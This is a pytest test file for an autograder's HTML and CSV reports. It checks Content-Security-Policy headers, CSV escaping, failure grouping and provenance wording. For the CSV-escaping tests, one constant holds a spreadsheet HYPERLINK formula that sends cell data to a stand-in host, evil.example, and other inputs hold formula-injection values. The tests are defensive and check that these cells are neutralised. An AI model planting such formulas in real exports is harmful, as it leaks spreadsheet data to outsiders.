"""Pages and CSV files from hand-made results (no grading): the Content-Security-Policy of
every page, spreadsheet-safe CSV, failures grouped by kind, provenance and cells in words."""

import base64
import csv
import hashlib
import io
import os

import pytest

from grader import batch
from grader.config.manifest import ClassRules
from grader.reports import classreport, classview, exports, report
from grader.results import CheckResult, SubmissionResult
from grader.store import gradebook
from test_reports import Markup

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"see your grade")'
PROVENANCE = {  # as the pipeline writes it today
    "batch_size": 32, "dataset": "flowers/*.tfrec (16 files)", "device": "CPU", "epochs": 6, "grader_version": "0.1.0",
    "image_size": 96, "matched_by": "ids", "replicas": 1, "sandbox": True, "sandbox_seconds": 7.67, "seconds": 17.51,
    "seed": 42, "stopped_by": None, "strategy": "_DefaultDistributionStrategy on 1 CPU replica(s)",
    "training": "fast path: head trained on cached outputs of mobilenetv2_1.00_96", "training_seconds": 6.33,
    "weights": "demo mobilenet_v2_demo_no_top.h5 sha256:8267bfd2bbf52333",
}


def accuracy(status, figure, cause=""):
    said = f"validation accuracy {figure:.3f} after 6 epochs of training in the grader"
    verdict = f"{said}: 0.70 earns all points, 0.50 earns 50%" if status == "partial" else f"{said}, below the 0.70 the lab expects"
    return CheckResult("accuracy", "Validation accuracy", status, 15.0 if status == "partial" else 0.0, 30.0,
                       verdict + (f"; {cause}" if cause else ""), evidence={"val_accuracy": figure, "threshold": 0.7})


def submission(name, *checks, **fields):
    checks = checks or (CheckResult("runs", "The model cell runs", "passed", 10.0, 10.0, "the answer cell ran without errors"),)
    fields = {"status": "graded", "score": sum(c.score for c in checks), "max_score": sum(c.max_score for c in checks), **fields}
    digest = hashlib.sha256(name.encode()).hexdigest()
    return SubmissionResult("keras_flowers_transfer", "1", name, f"{name}.ipynb", digest, checks=tuple(checks), **fields)


def class_of(folder, results, students=None, checks=(("runs", "The model cell runs", 10.0),)):
    """The class pages of hand-made results, as a run would leave them: in the gradebook, then rendered."""
    book = gradebook.Gradebook(str(folder / "gradebook.sqlite"))
    facts = classview.ClassFacts("keras_flowers_transfer", "1", "Class", "fp", tuple(checks), ClassRules())
    for result in results:
        book.put("fp", result)
        book.record(facts.name, gradebook.Stored(result.submission, result.file, result.sha256, 0.0, "file name", True))
    if students:
        book.set_students(facts.name, students)
    view = classview.build(book, facts)
    book.close()
    classreport.save_facts(facts, str(folder))
    classreport.write(view, str(folder), None)
    return view


class Page(Markup):
    """A page's tags in order, its Content-Security-Policy, scripts and text."""

    def __init__(self, path):
        super().__init__()
        self.order, self.policies = [], []
        self.feed(open(path, encoding="utf-8").read())

    def handle_starttag(self, tag, attrs):
        self.order.append(tag)
        if tag == "meta" and (dict(attrs).get("http-equiv") or "").lower() == "content-security-policy":
            self.policies.append(dict(attrs)["content"])
        super().handle_starttag(tag, attrs)

    def directives(self):
        return {d.split()[0]: d.split()[1:] for d in self.policies[0].split(";")}


@pytest.fixture
def pages(tmp_path):
    """Every kind of page the grader writes, for two submissions."""
    results = [submission("alice", cells=({"key": "model", "role": "answer", "source": "x = 1", "status": "ok"},), provenance=PROVENANCE),
               submission("bob", accuracy("failed", 0.2, "freeze it"))]
    results.append(submission("carol", model={"layers": "not a list"}))  # the scorecard cannot be drawn: the fallback page
    report.write_notebook({"cells": [{"cell_type": "markdown", "source": "## Imports"}]}, str(tmp_path / ALICE), "alice")
    class_of(tmp_path, results, checks=(("runs", "The model cell runs", 10.0), ("accuracy", "Validation accuracy", 30.0)))
    return tmp_path


ALICE, BOB, CAROL = "submissions/alice/alice", "submissions/bob/bob", "submissions/carol/carol"


def test_every_page_carries_a_strict_policy_before_anything_it_governs(pages):
    paths = ["index.html", f"{ALICE}/scorecard.html", f"{ALICE}/notebook.html", f"{BOB}/scorecard.html", f"{CAROL}/scorecard.html"]
    assert "could not be drawn" in "".join(Page(pages / CAROL / "scorecard.html").text)
    for path in paths:
        page = Page(pages / path)
        assert len(page.policies) == 1 and page.order[:3] == ["html", "head", "meta"] and page.order[3] == "meta", path
        directives = page.directives()
        assert directives["default-src"] == ["'none'"] and directives["img-src"] == ["data:"]
        assert directives["style-src"] == ["'unsafe-inline'"] and directives["frame-src"] == ["'none'"]
        assert directives["base-uri"] == ["'none'"] and directives["form-action"] == ["'none'"]
        allowed = [f"'sha256-{base64.b64encode(hashlib.sha256(s.encode()).digest()).decode()}'" for s in page.scripts]
        assert directives["script-src"] == (allowed or ["'none'"]), path
    assert len(Page(pages / "index.html").scripts) == 1


def test_the_sort_script_hash_follows_the_script():
    policy = report.content_security_policy(("a",))
    assert "script-src 'sha256-ypeBEsobvcr6wjGzmiPcTaeG7/gUfE5yuYB3ha/uSLs='" in policy  # sha256 of "a", as CSP spells it
    assert report.content_security_policy() != report.content_security_policy((report.SORT_SCRIPT,))


def rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(tmp_path):
    names = [HYPERLINK, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain"]
    view = class_of(tmp_path, [submission(name) for name in names])
    table = rows(classreport.grades_csv(view))
    assert table[0][:6] == ["student", "name", "email", "section", "status", "file"]
    assert {row[0] for row in table[1:]} == {"'" + HYPERLINK, "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "plain"}
    assert {row[5] for row in table[1:]} == {os.path.basename(HYPERLINK) + ".ipynb", "'+1.ipynb", "'-2.ipynb", "'@SUM(A1).ipynb", "'\tx.ipynb", "'\rx.ipynb", "plain.ipynb"}
    assert all(float(row[9]) == 10 and float(row[11]) == 10 and float(row[13]) == 10 for row in table[1:])  # numbers stay numbers


def test_canvas_export_neutralises_names_and_keeps_points_numeric(tmp_path):
    students = {"a": {"id": "a", "name": "=1+1", "canvas_id": "-5", "section": "@A"}}
    view = class_of(tmp_path, [submission("a"), submission(HYPERLINK)], students)
    text, left_out = exports.canvas_csv(view, "Lab (1)")
    table = rows(text)
    assert ["'=1+1", "'-5", "", "", "'@A", "10"] in table and len(table) == 2
    assert left_out == [f"{HYPERLINK} (not in the roster)"]


def test_a_negative_score_column_is_still_a_number():
    assert exports.spreadsheet_cell(-1.5) == -1.5 and exports.spreadsheet_cell("-1.5") == "'-1.5"


def test_accuracy_failures_with_different_figures_are_one_row():
    softmax = "the last layer is Dense(5, linear), so the loss reads its raw outputs as probabilities: use activation='softmax'"
    rate = "the optimizer's learning rate is {}, so the model cannot learn: use optimizer='adam'"
    results = [
        submission("ann", accuracy("partial", 0.55, softmax)),
        submission("ben", accuracy("failed", 0.217, softmax)),
        submission("cat", accuracy("failed", 0.2, rate.format("0.0"))),
        submission("dan", accuracy("failed", 0.31, rate.format("-0.001"))),
        submission("eve", accuracy("failed", 0.4, rate.format("1e-07"))),
        submission("fay", accuracy("failed", 0.45)),
    ]
    failures = report.common_failures(results)
    assert [(f["count"], f["students"]) for f in failures] == [(3, ["cat", "dan", "eve"]), (2, ["ann", "ben"]), (1, ["fay"])]
    assert failures[1]["who"] == ["ann (0.550)", "ben (0.217)"]


def test_other_failures_fold_numbers_and_quoted_code_but_keep_their_words():
    def runs(message):
        return CheckResult("runs", "The model cell runs", "failed", 0.0, 10.0, message)

    results = [
        submission("ann", runs("the answer cell raised NameError at line 3 `modle.fit()`: name 'modle' is not defined")),
        submission("ben", runs("the answer cell raised NameError at line 12 `x = modle`: name 'modle' is not defined")),
        submission("cat", runs("the cell still holds the placeholder `# YOUR CODE HERE`: write your code in its place")),
    ]
    assert [(f["count"], f["who"]) for f in report.common_failures(results)] == [(2, ["ann", "ben"]), (1, ["cat"])]


def test_the_scorecard_says_how_it_was_graded_in_words(pages):
    text = " ".join(Page(pages / ALICE / "scorecard.html").text)
    assert "Trained on the CPU, one replica, fast path: only the head was trained, on cached outputs of the frozen base" in text
    assert "The sandbox run took 7.7 s and ended normally." in text and "6 epochs, batches of 32, seed 42" in text
    assert "Version 0.1.0; grading took 17.5 s." in text and "Found by the cell ids the release recorded" in text
    for raw in ("_DefaultDistributionStrategy", "stopped_by", "None", "matched_by", "sandbox_seconds"):
        assert raw not in text


@pytest.mark.parametrize("cell, label", [
    ({"role": "answer", "source": "# YOUR CODE HERE", "status": "ok", "unanswered": True}, "answer · ran, but holds only the playground's placeholder"),
    ({"role": "answer", "source": "# YOUR CODE HERE\nmodel = build()", "status": "ok", "unanswered": False}, "answer · ran without error"),
    ({"role": "answer", "source": "# YOUR CODE HERE", "status": "ok"}, "answer · ran; the placeholder is still in it"),
    ({"role": "answer", "source": "model = build()", "status": "ok"}, "answer · ran without error"),
    ({"role": "answer", "source": "1/0", "status": "error", "error": {"name": "ZeroDivisionError", "message": "division by zero", "traceback": ""}}, "answer · raised ZeroDivisionError"),
    ({"role": "answer", "source": "x", "status": "not run"}, "answer · not run"),
    ({"role": "changed locked cell", "source": "", "status": "replaced by the assignment's version"}, "changed locked cell · replaced by the assignment's version"),
    ({"role": "added", "source": "print(1)", "status": "ok"}, "added by the student · ran without error"),
    ({"role": "added", "source": "raise ValueError", "status": "error", "error": {"name": "ValueError", "message": "", "traceback": ""}}, "added by the student · raised ValueError"),
])
def test_a_cell_label_says_what_happened_to_it(cell, label, tmp_path):
    report.write_submission(submission("ann", cells=({"key": "model", **cell},)), str(tmp_path / "ann"))
    assert label in Page(tmp_path / "ann" / "scorecard.html").text


def test_class_page_lists_who_failed_with_their_figures(pages):
    text = "".join(Page(pages / "index.html").text)
    assert "bob (0.200)" in text


def test_pages_are_deterministic(pages, tmp_path):
    before = {name: open(pages / name, "rb").read() for name in ("index.html", "grades.csv", f"{ALICE}/scorecard.html")}
    batch.rerender(str(pages))
    assert {name: open(pages / name, "rb").read() for name in before} == before
    assert os.path.exists(pages / ALICE / "notebook.html")


def test_provenance_words_cope_with_stops_other_strategies_and_missing_facts():
    from grader.reports import wording

    said = dict(wording.provenance({**PROVENANCE, "stopped_by": "cell_timeout", "sandbox_cpu_seconds": 3.14, "device": "GPU",
                                    "replicas": 2, "strategy": "MirroredStrategy on 2 GPU replica(s)", "training": "full training (base is trainable)"}))
    assert said["Sandbox"] == "The sandbox run took 7.7 s (3.1 s of CPU time) and was stopped: a cell used up its CPU time."
    assert said["Training"] == "Trained on GPUs, 2 replicas, with MirroredStrategy, full training (base is trainable), in 6.3 s."
    assert dict(wording.provenance({"sandbox": False, "seconds": 1})) == {
        "Sandbox": "The student's code ran without a sandbox (--no-sandbox).", "Grader": "Grading took 1.0 s."}
    assert dict(wording.provenance({**PROVENANCE, "sandbox": False}))["Sandbox"] == "The run, without a sandbox (--no-sandbox), took 7.7 s and ended normally."
    assert wording.provenance({}) == []
